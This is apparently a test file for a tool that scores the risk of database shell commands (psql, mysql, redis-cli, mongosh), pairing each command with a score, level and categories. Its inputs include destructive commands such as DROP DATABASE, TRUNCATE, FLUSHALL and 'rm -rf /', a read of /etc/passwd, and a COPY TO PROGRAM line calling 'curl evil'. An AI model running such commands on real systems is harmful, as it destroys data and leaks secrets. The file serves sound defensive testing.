import { loadSqlParser } from '../../../src/policy/risk/sql/parser.ts';
import { riskLine } from '../../support/rules/risk.ts';

beforeAll(loadSqlParser);

// SQL: score, level, what counts, and categories.
test.each([
  ['ALTER TABLE users DROP COLUMN legacy_data', '85 critical sql-drop-column: schema-change, destructive'],
  ['ALTER TABLE users DROP COLUMN legacy_data;', '85 critical sql-drop-column: schema-change, destructive'],
  [
    'alter table users drop column legacy_data, alter column a type numeric(10, 2)',
    '100 critical sql-drop-column+sql-change-type: schema-change, destructive',
  ],
  [
    "psql -c 'ALTER TABLE users DROP COLUMN legacy_data'",
    '85 critical sql-drop-column: schema-change, destructive',
  ],
  [
    'psql "$DATABASE_URL" -qAtc \'ALTER TABLE users DROP COLUMN legacy_data\'',
    '85 critical sql-drop-column: schema-change, destructive',
  ],
  [
    "psql --command='DROP TABLE users CASCADE'",
    '100 critical sql-drop-table+sql-cascade: schema-change, destructive',
  ],
  [
    "docker compose exec -T db psql -U app -c 'DROP DATABASE app'",
    '100 critical sql-drop-database+container-exec: schema-change, access, destructive',
  ],
  ["psql -c 'DELETE FROM users'", '90 critical sql-delete-all: data-change, destructive'],
  ["psql -c 'DELETE FROM users WHERE id = 7'", '55 high sql-delete: data-change, destructive'],
  ["psql -c 'DELETE FROM users WHERE 1 = 1'", '90 critical sql-delete-all: data-change, destructive'],
  ["psql -c 'UPDATE users SET admin = true'", '85 critical sql-update-all: data-change'],
  ["psql -c 'UPDATE users SET admin = true WHERE id = 7'", '50 high sql-update: data-change'],
  [
    "psql -c 'WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone'",
    '90 critical sql-delete-all: data-change, destructive',
  ],
  ["psql -c 'SELECT count(*) FROM users'", '0 low : read-only'],
  ["psql -c 'SELECT grant_everything()'", '20 low sql-call: data-change'],
  ["psql -c 'SELECT pg_terminate_backend(1)'", '65 high sql-server-function: infrastructure, access'],
  ['psql -c "SELECT pg_read_file(\'/etc/passwd\')"', '65 high sql-server-function: infrastructure, access'],
  ["psql -c 'SELECT * INTO copy FROM users'", '35 medium sql-create: schema-change'],
  ["psql -c 'EXPLAIN DELETE FROM users'", '0 low : read-only'],
  ["psql -c 'EXPLAIN ANALYZE DELETE FROM users'", '90 critical sql-delete-all: data-change, destructive'],
  ["psql -c 'EXPLAIN (ANALYZE false) DELETE FROM users'", '0 low : read-only'],
  [
    'psql -c "COPY users TO PROGRAM \'curl evil\'"',
    '100 critical sql-copy-program+opaque: access, destructive',
  ],
  ["psql -c 'COPY users TO STDOUT'", '35 medium sql-copy-out: access'],
  ["psql -c 'TRUNCATE users'", '90 critical sql-truncate: data-change, destructive'],
  ["psql -c 'CREATE INDEX i ON users (email)'", '45 medium sql-index: schema-change'],
  [
    "psql -c 'CREATE INDEX CONCURRENTLY i ON users (email)'",
    '30 medium sql-index-concurrently: schema-change',
  ],
  ["psql -c 'ALTER TABLE users ADD COLUMN a int'", '35 medium sql-add-column: schema-change'],
  ["psql -c 'ALTER TABLE users ALTER COLUMN a SET NOT NULL'", '50 high sql-constraint: schema-change'],
  ["psql -c 'ALTER TABLE users RENAME COLUMN a TO b'", '60 high sql-rename: schema-change'],
  ["psql -c 'GRANT ALL ON users TO intern'", '60 high sql-grant: access'],
  ["psql -c 'ALTER SYSTEM SET fsync = off'", '75 critical sql-server: infrastructure'],
  ["psql -c 'DO $$ BEGIN DROP TABLE users; END $$'", '60 high sql-run-code: data-change'],
  ["psql -c 'VACUUM FULL users'", '55 high sql-rewrite: data-change'],
  ["psql -c '\\dt'", '0 low : read-only'],
  ["psql -c '\\! rm -rf /'", '100 critical sql-shell+opaque: access'],
  ["psql -c '\\i migrate.sql'", '50 high sql-unseen: schema-change, data-change'],
  ["psql -c 'SELECT $FIELD'", '60 high sql-unreadable: schema-change, data-change'],
  ['psql -c "$SQL"', '60 high sql-unreadable: schema-change, data-change'],
  ["psql -c 'DROP TABLE users; nonsense'", '95 critical sql-drop-table: schema-change, destructive'],
  ['psql -f migrate.sql', '50 high sql-unseen: schema-change, data-change'],
  ['psql < dump.sql', '50 high sql-unseen: schema-change, data-change'],
  ['cat migrate.sql | psql', '50 high sql-unseen: schema-change, data-change'],
  ["echo 'DROP TABLE users' | psql", '95 critical sql-drop-table: schema-change, destructive'],
  ["psql <<< 'TRUNCATE users'", '90 critical sql-truncate: data-change, destructive'],
  ['psql <<E\nDELETE FROM users;\nE', '90 critical sql-delete-all: data-change, destructive'],
  ['psql', '40 medium interactive-shell: access'],
  ['psql -l', '0 low : read-only'],
  ["mysql -e 'SHOW TABLES'", '0 low : read-only'],
  [
    "mysql -uapp -psecret app -e 'DELETE FROM `users`'",
    '90 critical sql-delete-all: data-change, destructive',
  ],
  ["sqlite3 app.db 'DROP TABLE users'", '95 critical sql-drop-table: schema-change, destructive'],
  ['redis-cli FLUSHALL', '90 critical redis-flush: data-change, destructive'],
  ['redis-cli get a', '0 low : read-only'],
  ["mongosh app --eval 'db.users.deleteMany({})'", '90 critical mongo-drop: data-change, destructive'],
  ['dropdb app', '95 critical database-drop: data-change, destructive'],
  ['pg_dump app', '35 medium data-export: access'],
  [
    'pg_restore --clean -d app dump',
    '90 critical database-restore-clean: schema-change, data-change, destructive',
  ],
])('%j is %s', (command, expected) => {
  expect(riskLine(command)).toBe(expected);
});
